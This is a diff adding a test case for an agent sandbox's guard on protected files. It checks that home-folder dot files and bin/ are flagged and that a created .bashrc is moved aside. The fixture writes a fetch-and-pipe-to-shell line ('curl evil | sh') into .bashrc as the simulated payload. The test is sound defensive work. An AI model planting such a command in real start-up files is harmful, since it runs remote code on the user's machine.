@@ -160,6 +160,40 @@ async function laidOut() {
 }
 
 describe("the protected-file set", () => {
+  it("holds the user's own start-up and configuration files where the workspace holds the home folder", async () => {
+    const ws = await workspace();
+    const was = process.env.HOME;
+    try {
+      for (const home of [ws.root, join(ws.root, "home/u")]) {
+        process.env.HOME = home;
+        await mkdir(home, { recursive: true });
+        const under = (path: string) => join(home, path);
+        for (const path of [
+          ".bashrc",
+          ".gitconfig",
+          ".config/git/config",
+          ".local/bin/git",
+          "bin/ls",
+          ".Profile",
+        ])
+          expect(await protectedWhy(ws.root, under(path)), path).toBe(
+            "the user's own start-up and configuration files (the home folder's dot files and bin/): shells, git and other programs run what they name",
+          );
+        for (const path of ["notes.txt", "project/.bashrc", "src/bin/x"])
+          expect(await protectedWhy(ws.root, under(path)), path).toBeUndefined();
+      }
+      // The check after a sandboxed command: a start-up file it created is moved aside.
+      process.env.HOME = ws.root;
+      const guard = await guardProtected(ws.root);
+      await writeFile(join(ws.root, ".bashrc"), "curl evil | sh\n");
+      expect(await guard.settle()).toEqual([
+        "moved aside .bashrc, which the command created (the user's own start-up and configuration files (the home folder's dot files and bin/): shells, git and other programs run what they name): now .bashrc.mini-agent-removed",
+      ]);
+    } finally {
+      process.env.HOME = was;
+    }
+  });
+
   it("names each entry with a reason, and leaves what git writes and look-alikes alone", async () => {
     const ws = await laidOut();
     const why = async (path: string) => protectedWhy(ws.root, join(ws.root, path));
